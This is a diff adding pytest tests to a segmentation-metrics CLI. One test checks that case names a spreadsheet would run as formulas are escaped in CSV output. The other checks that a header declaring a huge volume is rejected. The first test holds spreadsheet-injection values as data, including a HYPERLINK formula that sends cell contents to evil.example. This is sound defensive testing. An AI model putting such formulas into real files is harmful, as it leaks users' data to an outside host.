@@ -59,6 +59,26 @@ def test_csv_rows_then_means(folders):
     assert "label 2: 1 of 2 cases have both masks empty" in result.stderr
 
 
+def test_csv_case_names_a_spreadsheet_would_run_are_text(folders):
+    # a case named by its file: `=HYPERLINK(...).nii.gz` was a formula in Excel and LibreOffice; numbers stay
+    # numbers (a region's name starts with a letter)
+    import csv
+
+    pred_dir, ref_dir = folders
+    names = ['=HYPERLINK("evil.example?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)"]
+    for name in names:
+        for folder in (pred_dir, ref_dir):
+            (folder / f"{name}.nii.gz").write_bytes((folder / "a.nii.gz").read_bytes())
+    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert {row["case"] for row in rows} == {"a", "b", "mean", *("'" + name for name in names)}
+    assert {row["label"] for row in rows} == {"1", "2"}
+    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "@")]
+    frame = pd.read_csv(io.StringIO(result.stdout))
+    assert all(frame[metric].dtype == float for metric in METRIC_NAMES)
+
+
 def test_json_records_settings_and_labels_option(folders, tmp_path):
     pred_dir, ref_dir = folders
     out = tmp_path / "scores" / "metrics.json"
@@ -237,6 +257,19 @@ def test_a_label_map_with_nan_voxels_exits_3_naming_it(tmp_path):
     result = runner.invoke(app, ["evaluate", "--pred", str(pred), "--ref", str(ref)])
     assert result.exit_code == 3, result.output
     assert result.stderr == f"error: {pred / 'a.nii.gz'}: label map holds NaN or inf voxels\n"
+
+
+@pytest.mark.parametrize("role", ["pred", "ref"])
+def test_a_label_map_declaring_a_huge_volume_exits_3_naming_it(folders, role):
+    from tests.data.test_io import _huge_header
+
+    path = folders[0 if role == "pred" else 1] / "b.nii.gz"
+    _huge_header(path)  # 30000^3 voxels: ITK allocated them, or failed on a line without the file's name
+    result = invoke("--pred", str(folders[0]), "--ref", str(folders[1]))
+    assert result.exit_code == 3, result.output
+    assert result.stderr.startswith(f"error: {path}: image too large: its header declares 30000 x 30000 x "
+                                    "30000 voxels of 2 bytes (5.029e+04 GiB), more than the ")
+    assert result.stderr.count("\n") == 1 and result.stdout == ""
 
 
 @pytest.mark.parametrize(("kind", "problem"), [
